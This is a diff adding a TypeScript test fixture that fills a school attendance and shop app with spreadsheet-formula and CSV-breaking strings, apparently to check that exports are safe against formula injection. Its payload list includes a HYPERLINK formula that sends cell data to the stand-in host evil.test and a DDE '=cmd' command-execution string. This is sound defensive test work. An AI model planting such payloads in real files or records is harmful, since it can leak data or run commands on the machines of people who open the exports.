@@ -1,0 +1,124 @@
+import { calls } from '#contract/app/calls.ts';
+import type { NamedInAddresses } from '#testkit/browser/every-route.ts';
+import type { BlackBox } from '#testkit/process/black-box.ts';
+import { givePoints, signedInAdmin, signedInProfessor, signedInStudent } from '#testkit/school/people.ts';
+
+/** What spreadsheets run as formulas, and what breaks lines and cells of a file. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1;1)',
+  '=HYPERLINK("http://evil.test/?"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  '\uFF0D1+1',
+  '\uFF20SUM(1)',
+  '=1\nb',
+  '\t=1+1',
+  'a"b',
+  'a""=1',
+  'a;=1+1;b',
+  'a";=1+1;"',
+  'a,=1+1,b',
+  'a\r\nb',
+  '\uFEFF=1+1',
+  "'=1+1",
+  ' =1+1',
+];
+
+/** A student's names made of them: another one in each part. */
+export function formulaNames(index: number) {
+  const at = (offset: number) => formulas[(index + offset) % formulas.length] ?? '';
+  return { first_name: at(0), middle_name: at(1), last_name: at(2) };
+}
+
+/** The program level of the class; it stands in the name of a file as well. */
+export const FORMULA_PROGRAM = '=1+1;-1';
+
+/** A school in which every text that an export shows is a formula. */
+export interface FormulaSchool {
+  student: { token: string };
+  professor: { token: string };
+  admin: { token: string };
+  made: NamedInAddresses;
+}
+
+/** Fills it; texts that no call takes, such as line breaks, are put straight into the database. */
+export function formulaSchool(box: BlackBox): Promise<FormulaSchool> {
+  return box.closed(async (school) => {
+    const admin = await signedInAdmin(school);
+    const professor = await signedInProfessor(school);
+    const { headers } = professor;
+    const pupils: Awaited<ReturnType<typeof signedInStudent>>[] = [];
+    for (const index of formulas.keys()) {
+      const courseYearSection = FORMULA_PROGRAM;
+      pupils.push(await signedInStudent(school, { ...formulaNames(index), courseYearSection, username: `f${index}` }));
+      const { first_name, last_name } = formulaNames(index);
+      await signedInProfessor(school, { first_name, last_name, username: `f${index}` });
+      await signedInStudent(school, { courseYearSection: formulas[index] ?? '', username: `p${index}` });
+    }
+    const [student] = pupils;
+    if (!student) throw new Error('nobody');
+    await givePoints(school, student.stud_id, 1000);
+    const hours = { subject_start_time: '00:00', subject_end_time: '23:59' };
+    const subject = { subject_name: '=1+1', subject_courseYearSection: FORMULA_PROGRAM, ...hours };
+    const made = (await school.ask(calls.createSubject, { headers, body: subject })).reply.subject;
+    const event = { subject_name: '@SUM(1)', ...hours };
+    const madeEvent = (await school.ask(calls.createEvent, { headers, body: event })).reply.subject;
+    const meeting = async (subjectId: number, level: string) => {
+      const body = {
+        class_token: 1,
+        class_exp: 1,
+        start_time: '00:00',
+        end_time: '23:59',
+        class_courseYearSection: level,
+      };
+      const { class_id } = (await school.ask(calls.createClass, { headers, params: { subjectId }, body })).reply.class;
+      for (const each of pupils.slice(0, 3)) {
+        const { QrToken } = (await school.ask(calls.generateNewToken, { body: { oldToken: each.token } })).reply;
+        await school.ask(calls.createAttendance, {
+          headers: { ...headers, studtoken: QrToken },
+          params: { sessionId: class_id },
+        });
+      }
+      return class_id;
+    };
+    const classSession = await meeting(made.subject_id, FORMULA_PROGRAM);
+    const eventSession = await meeting(madeEvent.subject_id, '');
+    for (const [index, item_name] of formulas.entries()) {
+      const item = {
+        item_name: `i${index}`,
+        item_subject: 's',
+        item_quantity: 1,
+        item_price: 1,
+        item_classSection: FORMULA_PROGRAM,
+      };
+      const { item_id } = (await school.ask(calls.createItems, { headers, body: item })).reply.item;
+      const bought = await school.ask(calls.buyStudentShopItems, { headers: student.headers, params: { item_id } });
+      const { transaction_id } = bought.reply.transaction;
+      await school.services.database.write((db) =>
+        db
+          .updateTable('shop_transaction')
+          .set({ item_name, item_subject: formulas[(index + 5) % formulas.length] ?? '' })
+          .where('transaction_id', '=', transaction_id)
+          .execute(),
+      );
+    }
+    return {
+      student,
+      professor,
+      admin,
+      made: {
+        class: made.subject_id,
+        className: made.subject_name,
+        event: madeEvent.subject_id,
+        eventName: madeEvent.subject_name,
+        classSession,
+        eventSession,
+        program: FORMULA_PROGRAM,
+      },
+    };
+  });
+}
